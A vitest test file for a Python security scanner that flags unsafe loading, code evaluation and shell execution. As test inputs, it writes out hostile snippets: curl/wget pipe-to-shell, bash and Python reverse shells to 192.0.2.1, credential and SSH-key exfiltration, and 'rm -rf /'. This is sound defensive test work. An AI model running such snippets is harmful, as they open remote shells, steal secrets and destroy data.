import { describe, expect, it, test } from 'vitest';
import { analysePython } from '../../formats/python-source/analyse-python.ts';
import { judgeImported } from './judge-imported.ts';
import { judgeSource } from './judge-source.ts';

const judged = (source: string) =>
  [...judgeSource(analysePython(source).code)].map(
    ({ rule, severity }) => `${rule.id.replace('python/', '')} ${severity ?? rule.severity}`,
  );
const imported = (source: string) =>
  [...judgeImported(analysePython(source).code)].map(
    ({ rule, severity }) => `${rule.id.replace('code/', '')} ${severity}`,
  );

describe('unsafe source', () => {
  test.each([
    ['import dill\ndill.loads(x)', 'loads-pickle high'],
    ['import shelve\nshelve.open("x")', 'loads-pickle high'],
    ['import pickle\npickle.loads(pickle.dumps(x))', 'loads-pickle low'],
    ['import pickle\nd = pickle.dumps(x) if y else f.read()\npickle.loads(d)', 'loads-pickle high'],
    ['assert eval(repr(x)) == x', 'evaluates-code low'],
    ['from sklearn.externals import joblib\njoblib.load("x")', 'loads-pickle high'],
    ['import torch\ntorch.load(f)', 'loads-torch-checkpoint high'],
    ['import torch\ntorch.load(f, weights_only=False)', 'loads-torch-checkpoint high'],
    [
      'import torch\noptions = {"weights_only": False}\ntorch.load(f, **options)',
      'loads-torch-checkpoint high',
    ],
    ['import torch\ntorch.jit.load(f)', 'loads-framework-model medium'],
    ['import torch\ntorch.hub.load("a/b", "m")', 'trusts-remote-code medium'],
    ["import cloudpickle\ncloudpickle.Unpickler(open('m', 'rb')).load()", 'loads-pickle high'],
    ["import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'", 'loads-torch-checkpoint high'],
    ["from ultralytics import YOLO\nYOLO('runs/train/best.pt')", 'loads-framework-model medium'],
    ["import whisper\nwhisper.load_model('mine.pt')", 'loads-framework-model medium'],
    ["import spacy\nspacy.load('./model')", 'loads-framework-model low'],
    ['import yaml\nyaml.load(f, yaml.FullLoader)', 'loads-yaml-objects medium'],
    ['import yaml\nyaml.load(f, Loader=yaml.Loader)', 'loads-yaml-objects high'],
    ['from tensorflow import keras\nkeras.models.load_model(f, safe_mode=False)', 'loads-keras-code high'],
    ['Model.load_from_checkpoint(p)', 'loads-framework-model medium'],
    ['Model.load_from_checkpoint(**options)', 'loads-framework-model medium'],
    ['exec(x)', 'evaluates-code high'],
    ['list(map(eval, lines))', 'evaluates-code high'],
    ['exec(open("x.py").read())', 'loads-code-by-name medium'],
    ['import urllib.request\nexec(urllib.request.urlopen(u).read())', 'runs-hidden-code critical'],
    ['import base64\ndef d(x): return base64.b64decode(x)\nexec(d("cGFzcw=="))', 'runs-hidden-code critical'],
    ['exec("".join(chr(c) for c in [112, 97, 115, 115]))', 'runs-hidden-code critical'],
    ['from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(b))', 'runs-hidden-code critical'],
    ['import os\nos.system(x)', 'runs-shell high'],
    ['import os\nos.system(f"rm {x}")', 'runs-shell high'],
    ['import os\nos.execvp(x, [x])', 'runs-shell high'],
    ['import subprocess\nsubprocess.run(["bash", "-c", x])', 'runs-shell high'],
    ['import subprocess\nsubprocess.getoutput(x)', 'runs-shell high'],
    ['import asyncio\nasyncio.create_subprocess_shell(x)', 'runs-shell high'],
    ['import os\nos.system("ls")', 'runs-fixed-command medium'],
    ['import os, shlex\nos.system("ls " + shlex.quote(x))', 'runs-fixed-command medium'],
    ['import os, sys\nos.system(f"{sys.executable} -m pip list")', 'runs-fixed-command medium'],
    ['import os\nos.system("curl -s http://192.0.2.1/a | bash")', 'runs-harmful-command critical'],
    ['import os\nos.system(f"wget -qO- {u} | sh")', 'runs-harmful-command critical'],
    [
      'import subprocess\nsubprocess.Popen("bash -i >& /dev/tcp/192.0.2.1/44 0>&1", shell=True)',
      'runs-harmful-command critical',
    ],
    ['import os\nos.system("rm -rf /")', 'runs-harmful-command high'],
    ['import os\nos.system("rm -rf ~/")', 'runs-harmful-command high'],
    ['import os\nos.system("chmod 777 x")', 'runs-harmful-command high'],
    [
      'import socket, os\ns = socket.socket()\ns.connect(("192.0.2.1", 1))\nwhile 1:\n    os.popen(s.recv(99).decode())',
      'opens-reverse-shell critical',
    ],
    [
      'import socket, os, pty\nclass C:\n    def __init__(self): self.s = socket.socket()\n    def go(self):\n        self.s.connect(a)\n        pty.spawn("sh")\nC().go()',
      'opens-reverse-shell critical',
    ],
    [
      'import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno())',
      'opens-reverse-shell critical',
    ],
    [
      'import os, requests\nk = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post(u, data=k)',
      'sends-secrets high',
    ],
    [
      'import pathlib, requests\nk = open(pathlib.Path.home() / ".ssh" / "id_rsa")\nrequests.post(u, data=k)',
      'sends-secrets high',
    ],
    ['import os, requests\nrequests.post(u, json={"e": str(os.environ)})', 'sends-secrets high'],
    [
      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "/tmp/x1")\nsubprocess.Popen(["/tmp/x1"])',
      'runs-harmful-command high',
    ],
    ['import os, shutil\nshutil.rmtree(os.path.expanduser("~"))', 'runs-harmful-command high'],
    ['import importlib\nimportlib.import_module(x)', 'loads-code-by-name medium'],
    ['import requests\nrequests.Session().get(u, verify=False)', 'skips-certificate-check medium'],
    [
      'import gradio as gr\nwith gr.Blocks() as demo: pass\ndemo.launch(share=True)',
      'opens-to-everyone medium',
    ],
    ['import tarfile\ntarfile.open(f).extractall()', 'extracts-archive medium'],
    ['import hashlib\nhashlib.md5(x)', 'uses-weak-hash low'],
    ['db.execute("SELECT * FROM t WHERE a = \'%s\'" % a)', 'composes-sql medium'],
    ['db.execute("SELECT * FROM t WHERE a = {}".format(a))', 'composes-sql medium'],
    ['db.execute("DELETE FROM t WHERE a = " + a)', 'composes-sql medium'],
    ['().__class__.__bases__[0].__subclasses__()', 'reaches-by-introspection high'],
    ['import telnetlib', 'uses-abandoned-library low'],
  ])('%j is %s', (source, expected) => expect(judged(source)).toContain(expected));
});

describe('honest source', () => {
  test.each([
    ['import torch\ntorch.load(f, weights_only=True)'],
    ['import torch\ntorch.load(f, map_location="cpu", weights_only=True)'],
    ['import torch\nfrom torch.utils import cpp_extension\ncpp_extension.load(name="x", sources=[])'],
    ['import json, tomllib\njson.load(f)\ntomllib.load(f)'],
    ['import numpy as np\nnp.load(f)\nnp.load(f, allow_pickle=False)\nnp.save(f, x, allow_pickle=True)'],
    ['import pickle\npickle.dumps(x)'],
    ['import yaml\nyaml.safe_load(f)\nyaml.dump(x)\nyaml.load(f, Loader=yaml.SafeLoader)'],
    [
      'try:\n    from yaml import CSafeLoader as L\nexcept ImportError:\n    from yaml import SafeLoader as L\nimport yaml\nyaml.load(f, Loader=L)',
    ],
    ['model.eval()\nframe.query("a > 1").eval("b")\nimport re\nre.compile("x")'],
    ['import ast\nast.literal_eval(x)\ncompile(x, "", "exec", ast.PyCF_ONLY_AST)'],
    ['eval("1 + 1")\nexec("import math")'],
    [
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "list"])\nsubprocess.check_output(["git", "rev-parse", "HEAD"])',
    ],
    ['import subprocess\nsubprocess.run(command, shell=False)'],
    ['def run(command, shell=False):\n    import subprocess\n    subprocess.run(command, shell=shell)'],
    ['import os\nos.system("clear")\nos.path.join(a, b)\nos.makedirs(p, exist_ok=True)'],
    [
      'import importlib\nimportlib.import_module("json")\nimportlib.import_module(f".{x}", __package__)\nimportlib.import_module(f"models.{x}")',
    ],
    ['import ctypes\nctypes.CDLL("libc.so.6")\nctypes.CDLL(None)'],
    [
      'import requests\ns = requests.Session()\ns.verify = True\ns.stream = False\nclass A:\n    def f(self): self.verify = False',
    ],
    ['__import__("json").loads(x)\n__import__("pkgutil").extend_path(__path__, __name__)'],
    [
      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b")\nAutoModel.from_pretrained("a/b", trust_remote_code=False)',
    ],
    [
      'def load(name, trust_remote_code=False):\n    return AutoModel.from_pretrained(name, trust_remote_code=trust_remote_code)',
    ],
    ['import requests\nrequests.get(u, timeout=5).json()\nrequests.get(u, verify=True)'],
    ['import base64\nbase64.b64decode(x)\nimport zlib\nzlib.decompress(x)'],
    ['import socket\ns = socket.socket()\ns.connect(a)\ns.sendall(b"x")\ns.recv(10)'],
    ['import os, sys\nos.dup2(log.fileno(), sys.stdout.fileno())'],
    [
      'import os, requests\nrequests.get(u, headers={"Authorization": os.environ["TOKEN"]})\nrequests.post(u, json={"a": 1})',
    ],
    [
      'import os, subprocess, requests\nrequests.post(u, json=x)\nsubprocess.run(["x"], env=dict(os.environ, A="1"))',
    ],
    [
      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "data.tar")\nsubprocess.run(["tar", "xf", "data.tar"])',
    ],
    [
      'import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(["git", "pull"], check=True)',
    ],
    ['import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())\nshutil.rmtree("build")'],
    ['import tarfile\ntarfile.open(f).extractall(p, filter="data")\ntarfile.open(f).getmembers()'],
    ['import hashlib\nhashlib.sha256(x)\nhashlib.md5(x, usedforsecurity=False)'],
    [
      'db.execute("SELECT * FROM t WHERE a = ?", (a,))\ndb.execute(f"SELECT * FROM {table}")\nsession.execute(f"hello {x}")',
    ],
    [
      'from jinja2.sandbox import ImmutableSandboxedEnvironment\nImmutableSandboxedEnvironment(trim_blocks=True).from_string(t)',
    ],
    ['import sys\nsys.path.insert(0, "/opt/app")\nsys.path.append(os.path.dirname(__file__))'],
    ['import gradio as gr\ngr.Interface(f, "text", "text").launch()'],
    [
      'class Registry:\n    def load(self, f): return f\n    def system(self): pass\nr = Registry()\nr.load(x)\nr.system()',
    ],
    ['from os import path, environ\nenviron.get("HOME")\npath.exists(p)'],
    ['x.__class__.__name__\nsuper().__init__()\nf.__globals__'],
    ['"""torch.load(x)\neval(x)\n"""\n# os.system(x)\nhelp = "run eval(x) or os.system(x)"'],
    ['from unittest import mock\nmock.patch("os.system")\nisinstance(x, subprocess.Popen)'],
  ])('%j', (source) => {
    expect(judged(source)).toEqual([]);
  });
});

describe('code that a loader imports', () => {
  test.each([
    ['import os\nos.system("id")', 'runs-process high'],
    ['import subprocess\nsubprocess.Popen(["id"])', 'runs-process high'],
    ['import os\nclass A:\n    x = os.popen("id")', 'runs-process high'],
    ['import os\ndef f(x=os.system("id")): pass', 'runs-process high'],
    ['import os\ndef f(): os.system("id")\nf()', 'runs-process high'],
    [
      'import os\ndef f(): os.system("id")\nimport threading\nthreading.Thread(target=f).start()',
      'runs-process high',
    ],
    ['import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()', 'runs-process high'],
    ['exec(x)', 'runs-code high'],
    ['exec("import os; os.system(1)")', 'runs-process high'],
    ['import requests\nrequests.post(u, data=x)', 'reaches-network high'],
    ['import ctypes\nctypes.CDLL("./x.so")', 'loads-native high'],
    ['open("/root/.ssh/id_rsa").read()', 'reads-secrets high'],
    ['import os\nopen(os.path.expanduser("~") + "/.bashrc", "a")', 'writes-file medium'],
    ['__import__(x).run("id")', 'computes-callable medium'],
    ['import subprocess\nclass M:\n    def __init__(self): subprocess.Popen(["id"])', 'runs-process high'],
  ])('%j is %s', (source, expected) => expect(imported(source)).toContain(expected));

  test.each([
    ['import torch\nclass M(torch.nn.Module):\n    def forward(self, x): return x'],
    [
      'import os, requests\nclass M:\n    def __init__(self): requests.get(u)\n    def f(self): os.system("id")',
    ],
    ['import logging, os\nlogger = logging.getLogger(__name__)\nos.environ.setdefault("A", "1")'],
    [
      'from dataclasses import dataclass, field\n@dataclass\nclass A:\n    x: list = field(default_factory=list)',
    ],
    ['try:\n    import flash_attn\nexcept ImportError:\n    flash_attn = None'],
    ['import torch\n@torch.jit.script\ndef f(x): return x'],
    ['open("vocab.json").read()'],
    ['if __name__ == "__main__":\n    import os\n    os.system("id")'],
  ])('%j does no harm', (source) => expect(imported(source)).toEqual([]));
});

describe('evidence', () => {
  test('tells no secrets', () => {
    const key = 'sk-abcdefghijklmnopqrstuvwxyz0123456789';
    const source = `import requests\nrequests.get(u, verify=False, headers={"Authorization": "${key}"}, auth="hunter2", params="${key}")`;
    const [found] = judgeSource(analysePython(source).code);
    expect(JSON.stringify(found?.evidence)).not.toContain('hunter2');
    expect(JSON.stringify(found?.evidence)).not.toContain('hijklmnop');
    expect(found?.evidence.call.length).toBeLessThanOrEqual(200);
  });

  test('says where', () => {
    const [found] = judgeSource(analysePython('class A:\n    def f(self):\n        return eval(x)').code);
    expect(found).toMatchObject({ line: 3, column: 16, evidence: { where: 'A.f' } });
  });

  test('a module that is not imported makes it less sure', () => {
    expect([...judgeSource(analysePython('pickle.loads(x)').code)][0]?.confidence).toBe('medium');
    expect([...judgeSource(analysePython('import pickle\npickle.loads(x)').code)][0]?.confidence).toBe(
      'high',
    );
  });
});

it.each(['import shutil\nshutil.os.system("id")\n', 'import logging as l\nl.os.popen("id")\n'])(
  'follows a module that another one imported: %j',
  (source) =>
    expect([...judgeImported(analysePython(source).code)].map(({ rule }) => rule.id)).toContain(
      'code/runs-process',
    ),
);

it.each([
  'import trace\ntrace.Trace().run("import os;os.system(1)")\n',
  'import timeit\ntimeit.timeit("import os; os.system(1)")\n',
  'from sympy import sympify\nsympify("__import__(1)")\n',
])('knows tools that run a text: %j', (source) =>
  expect([...judgeImported(analysePython(source).code)].map(({ rule }) => rule.id)).toContain(
    'code/runs-code',
  ),
);

it.each(['import timeit\ntimeit.timeit("x + 1")\n', 'from sympy import sympify\nsympify("x**2")\n'])(
  'takes expressions for what they are: %j',
  (source) => expect([...judgeImported(analysePython(source).code)]).toEqual([]),
);
